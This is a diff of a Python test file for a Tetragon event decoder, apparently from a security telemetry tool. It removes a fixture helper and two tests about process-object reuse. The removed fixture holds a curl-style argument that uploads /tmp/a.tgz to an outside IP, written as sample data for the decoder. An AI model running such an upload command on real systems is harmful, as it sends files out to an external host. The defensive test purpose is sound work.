@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import base64
-import json
 from collections import Counter
 from pathlib import Path
 
@@ -513,59 +512,3 @@ def test_corpus_export_lines(corpus: Path) -> None:
     assert first.process.parent.path == "/usr/bin/containerd-shim-runc-v2"
     assert first.container is not None
     assert first.container.uid == "19a02291e106ce6227b684197be232ea57c4e1a5ab2604a12608c325d701c7f4"
-
-
-def _send(binary: str, pod_name: str, sent: int) -> bytes:
-    process = {
-        "exec_id": "bm9kZToxMjM0OjQ1Ng==",
-        "pid": 456,
-        "binary": binary,
-        "arguments": "-T /tmp/a.tgz https://203.0.113.9/",
-        "docker": "5aaf6b4156564",
-        "pod": {
-            "namespace": "app",
-            "name": pod_name,
-            "container": {"id": "containerd://5aaf6b4156564"},
-        },
-    }
-    sock = {"saddr": "10.0.0.5", "daddr": "203.0.113.9", "sport": 40000, "dport": 443}
-    record = {
-        "process_kprobe": {
-            "process": process,
-            "parent": {"exec_id": "bm9kZToxMjM0OjE=", "pid": 1, "binary": "/bin/sh"},
-            "function_name": "tcp_sendmsg",
-            "args": [{"sock_arg": sock}, {"int_arg": sent}],
-        },
-        "node_name": "node-1",
-        "time": "2026-01-01T00:00:01Z",
-    }
-    return json.dumps(record).encode()
-
-
-def test_a_process_is_reused_only_while_its_record_repeats_it_exactly() -> None:
-    """Sends of one exec id reuse what was built for its process; a record that repeats the
-    exec id but differs in anything read (a spoofed binary, another pod) gets its own."""
-    decoder = TetragonDecoder()
-    ref = RawRef("tetragon", "t.json", line=1)
-    [first] = decoder.feed(_send("/usr/bin/curl", "api-1", 10), ref)
-    [again] = decoder.feed(_send("/usr/bin/curl", "api-1", 20), ref)
-    [spoofed] = decoder.feed(_send("/usr/bin/nginx", "api-1", 30), ref)
-    [moved] = decoder.feed(_send("/usr/bin/nginx", "web-1", 40), ref)
-    assert again.process is first.process  # reused, not rebuilt
-    assert again.traffic == Traffic(bytes_out=20)
-    assert spoofed.process is not None
-    assert spoofed.process.path == "/usr/bin/nginx"
-    assert moved.container is not None
-    assert moved.container.pod_name == "web-1"
-    assert spoofed.container is not None
-    assert spoofed.container.pod_name == "api-1"
-
-
-def test_a_large_record_is_not_kept_for_reuse() -> None:
-    """What is kept to reuse holds the record's strings: only small records are kept."""
-    decoder = TetragonDecoder()
-    ref = RawRef("tetragon", "t.json", line=1)
-    [first] = decoder.feed(_send("/usr/bin/curl" + " " * 5000, "api-1", 10), ref)
-    [again] = decoder.feed(_send("/usr/bin/curl" + " " * 5000, "api-1", 20), ref)
-    assert again.process == first.process
-    assert again.process is not first.process
